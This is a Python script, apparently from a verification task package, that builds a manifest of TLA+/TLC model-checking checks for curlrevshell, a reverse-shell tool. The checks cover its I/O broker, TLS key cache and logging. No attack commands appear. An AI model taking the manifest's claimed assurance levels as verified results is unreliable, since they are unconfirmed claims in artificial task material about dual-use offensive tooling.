   text="Opshell.tla models Ctrl+O, shell output, status lines, the silence timer and time in half-second ticks; TLC checks MutedDropsOnlyPlain, NothingDroppedWithoutCtrlO, UnmuteOnlyAfterCalm, SuppressedPushesTimer, AlreadyMutedChangesNothing and MuteEndsByItself over every schedule within the bounds. Walks covering the graph's edges are replayed in real time: a helper built from /verif hosts the real opshell.New + Shell.Do on a pty, output and status lines are injected at their ticks through a side channel, Ctrl+O is typed on the pty, and the terminal output is read with arrival times (which markers appear, the announcements, the un-muting instant within -0.45/+0.6 tick). Curlrevshell.tla (BrokerOut composed with Opshell) is model-checked as well.",
   note="Real time: schedules whose events cannot be sent within 120 ms of plan are re-run or dropped; events coinciding with the timer's expiry are not generated. Quick replays a seeded subset of the edge cover, thorough all of it."),
}

PENDING = {}

def main():
    checks = []
    for pid in sorted(CHECKS):
        c = CHECKS[pid]
        checks.append({
            "property_id": pid,
            "quick_cmd": f"./run.sh {pid} quick",
            "thorough_cmd": f"./run.sh {pid} thorough",
            "evidence_file": f"/verif/evidence/{pid}.json",
            "replay_cmd_template": f"./run.sh {pid} replay {{path}}",
            "engine": "vcheck",
            "level_claimed": {"category": c["level"], "text": c["text"], "design_ref": c["design"]},
            "level_note": c["note"],
            "technique": c["technique"],
        })
    props = [json.loads(l)["id"] for l in open("/verif/properties.jsonl")]
    na = [{"property_id": p, "reason": PENDING.get(p, "check not built yet in this revision of /verif (work in progress; see DESIGN.md §10)")}
          for p in props if p not in CHECKS]
    m = {
      "version": 1,
      "setup_cmd": "cd /verif && ./setup.sh",
      "hooks": {
        "guard": "verif",
        "enable": "go build -tags verif (harness module github.com/magisterquis/curlrevshell/verifharness, replace => /repo)",
        "baseline_off_cmd": "cd /repo && GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -json -vet=off -count=1 -timeout 25m ./...",
        "source_commits": HOOK_COMMITS,
        "add_only": True,
      },
      "engines": [{"name": "vcheck", "path": "/verif/harness", "serves_properties": sorted(CHECKS),
                   "kind_free_text": "Go harness: runs TLC on /verif/spec, replays TLC behaviours on the real code, records traces and has TLC validate them"}],
      "checks": checks,
      "not_applicable": na,
      "notes": "Model-based verification with explicit TLA+ specifications in /verif/spec; see DESIGN.md. exit 0 held / 1 VIOLATION / 2 inconclusive.",
    }
    json.dump(m, open("/verif/MANIFEST.json", "w"), indent=1)
    print("checks:", len(checks), "not_applicable:", len(na))

main()
