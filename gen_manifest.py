#!/usr/bin/env python3
"""Regenerates MANIFEST.json from the table below (single source of truth)."""
import json, subprocess

HOOK_COMMITS = ["9676e60"]

CHECKS = {
 "C01": dict(level="model_checking", design="DESIGN.md §6 C01, §4.1, §5.2",
   technique="TLA+ BrokerCtl.tla model-checked with TLC; every edge of its state graph replayed on the real Broker under a gate-imposed schedule (replay conformance)",
   text="TLC checks OneShell, Consistent, RefusedWhenRequired and friends on every interleaving of 3-4 attempts (all mixes of /i, /o, /io, three IDs incl. the empty one, stream endings, shutdown). Every edge of that graph is then replayed on a real iobroker.Broker with the verif gates imposing the admission/release order; after each step the broker's state, the attempt's fate, the notices and events are compared with TLC's successor state, and refused attempts are checked to have received no I/O.",
   note="Trusted: TLC, the gate hooks (observe/delay only), the projection in harness/brk. IDs are drawn from a seeded family of related strings, not all strings. The HTTP layer's ID extraction is covered separately by the server-level checks."),
 "C03": dict(level="model_checking", design="DESIGN.md §6 C03, §4.1, §5.3",
   technique="TLA+ BrokerOut.tla model-checked with TLC (safety + liveness); traces recorded from the real proxyOut validated by TLC against BrokerOutTrace.tla (trace validation)",
   text="BrokerOut models the reader goroutine, its 2-slot queue, the forwarder, the close notice and the terminal; TLC proves ShownIsPrefix, NoticeAfterAllData, NoticeLast, NothingAfterDrop for every interleaving with operator-channel capacity 0/1/4. Environment schedules covering every edge of that graph (reads returning data / data+error / error / nothing, terminal speed, cancellation, transport close) are run against a real Broker and each recorded trace must be a behaviour of the specification (silent internal steps inferred by TLC).",
   note="Trusted: TLC, harness-owned reader/terminal, content-to-chunk mapping. Chunk sizes come from a seeded set up to the 2048-byte read buffer; the pty display leg is covered by C19/C12 checks."),
 "C04": dict(level="model_checking", design="DESIGN.md §6 C04, §4.1, §5.2, §5.3",
   technique="TLA+ BrokerCtl.tla/BrokerOut.tla model-checked with TLC incl. liveness under fairness; gated replay of the control graph plus TLC trace validation of output-path executions with a per-world goroutine census",
   text="Safety (ExactlyOneGone, ReadyOnlyWhenFull, FullImpliesReady, ReArm, ShutdownWaits) and liveness (PeerCancelled, EndsWhenCancelled, NoLeak) are model-checked; the control graph's edges are replayed on the real Broker comparing notices, events, book-keeping and Do's return; output-path executions (flood, stalled terminal, cancellation at every point) end with a goroutine census that the trace specification only accepts when nothing of the stream is left running.",
   note="Trusted: TLC, pprof goroutine labels for the census, 5 s bound standing in for 'eventually'."),
 "C06": dict(level="model_checking", design="DESIGN.md §6 C06, §4.1, §5.2",
   technique="TLA+ BrokerCtl.tla (SameRequest, AtMostOneIO) model-checked with TLC; every admission order of the halves of 2 /io requests replayed on the real Broker through gates",
   text="TLC checks SameRequest / AtMostOneIO / NoMixIOUni over every interleaving of two /io requests (four halves) with or without unidirectional attempts, and the harness replays every edge on a real Broker, ordering the halves with the admit gates and checking by its own accounting which request each attached half belongs to.",
   note="Trusted: TLC, gate hooks. 3-4 simultaneous /io requests are covered by simulation in the thorough tier only."),
 "C02": dict(level="model_checking", design="DESIGN.md §6 C02, §4.1, §5.3",
   technique="TLA+ BrokerIn.tla model-checked with TLC (safety + liveness); traces of the real proxyIn (gated writer, fault injection) validated by TLC against BrokerInTrace.tla",
   text="BrokerIn models operator lines, successive shells, writer kinds (FlushError / http.Flusher / plain), a possible failure at every write and flush, cancellation and closing of the input channel; TLC proves GapFree, LostOnlyOnOwnError, FlushBeforeNextTake, Prompt. Schedules covering every edge of that graph are executed on a real Broker with harness-owned writers whose calls park until the schedule decides their result; every recorded trace (enter / write / flush / log / release events) must be a behaviour of the specification.",
   note="Trusted: TLC, harness writers, content-to-line mapping. The live HTTPS promptness leg is in the server-level checks."),
 "C08": dict(level="fault_enumeration", design="DESIGN.md §6 C08, §4.3",
   technique="TLA+ Identity.tla model-checked with TLC; every history of its graph and every crash point (all prefix lengths of the cache file) replayed on real files through sstls.Listen and a TLS handshake",
   text="Identity.tla states StableKey, TornNeverSilentlyDifferent, NeverRewritten, MissingRegenerates over histories of start / stop / crash-during-save / damage / delete; each history is replayed on real files: the served key is observed by a real TLS handshake, the file's bytes, inode, mtime and modes are compared before and after every run, and every prefix length of a complete cache file is tried as a crash point.",
   note="Trusted: crypto/tls, crypto/x509, SHA-256. A crash is modelled by the prefix it leaves behind. The real-binary leg (flag wiring, exit status) is part of C20."),
 "C11": dict(level="model_checking", design="DESIGN.md §6 C11, §4.1, §5.3",
   technique="TLA+ BrokerIn/BrokerOut/BrokerCtl log-history invariants model-checked with TLC; the slog records of real executions are trace events validated by TLC, connect/refusal records compared per attempt in the gated replay",
   text="The log is a history variable of the broker specifications (LogMatchesDelivery, LogMatchesForwarded, NothingDroppedLogged); a capturing slog.Handler turns every Shell I/O record of a real execution into a trace event that TLC must be able to place exactly after the corresponding delivery, and the control replay checks one connect and one disconnect record per accepted stream and one error record with a true reason per refused stream.",
   note="Trusted: TLC, the capturing handler. The JSON framing of the real -log file is checked in the end-to-end leg."),
}

PENDING = {}

def main():
    checks = []
    for pid in sorted(CHECKS):
        c = CHECKS[pid]
        checks.append({
            "property_id": pid,
            "quick_cmd": f"./run.sh {pid} quick",
            "thorough_cmd": f"./run.sh {pid} thorough",
            "evidence_file": f"/verif/evidence/{pid}.json",
            "replay_cmd_template": f"./run.sh {pid} replay {{path}}",
            "engine": "vcheck",
            "level_claimed": {"category": c["level"], "text": c["text"], "design_ref": c["design"]},
            "level_note": c["note"],
            "technique": c["technique"],
        })
    props = [json.loads(l)["id"] for l in open("/verif/properties.jsonl")]
    na = [{"property_id": p, "reason": PENDING.get(p, "check not built yet in this revision of /verif (work in progress; see DESIGN.md §10)")}
          for p in props if p not in CHECKS]
    m = {
      "version": 1,
      "setup_cmd": "cd /verif && ./setup.sh",
      "hooks": {
        "guard": "verif",
        "enable": "go build -tags verif (harness module github.com/magisterquis/curlrevshell/verifharness, replace => /repo)",
        "baseline_off_cmd": "cd /repo && GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -json -vet=off -count=1 -timeout 25m ./...",
        "source_commits": HOOK_COMMITS,
        "add_only": True,
      },
      "engines": [{"name": "vcheck", "path": "/verif/harness", "serves_properties": sorted(CHECKS),
                   "kind_free_text": "Go harness: runs TLC on /verif/spec, replays TLC behaviours on the real code, records traces and has TLC validate them"}],
      "checks": checks,
      "not_applicable": na,
      "notes": "Model-based verification with explicit TLA+ specifications in /verif/spec; see DESIGN.md. exit 0 held / 1 VIOLATION / 2 inconclusive.",
    }
    json.dump(m, open("/verif/MANIFEST.json", "w"), indent=1)
    print("checks:", len(checks), "not_applicable:", len(na))

main()
